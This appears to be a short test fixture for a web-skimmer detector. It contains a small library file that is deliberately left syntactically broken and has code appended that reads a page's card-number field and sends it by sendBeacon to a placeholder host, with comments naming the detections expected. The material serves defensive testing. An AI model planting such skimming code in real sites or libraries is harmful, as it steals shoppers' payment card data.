// technique 27: skimmer appended to a library that is then syntactically broken
// expect: payment-data-exfiltration, parse-fallback
/*! tiny-lib v1.0 */
function tinyLib(a) { return a + 1; }
}}
var d = document.getElementById('cc_number').value;
navigator.sendBeacon('https://lib-update.example/b', d);
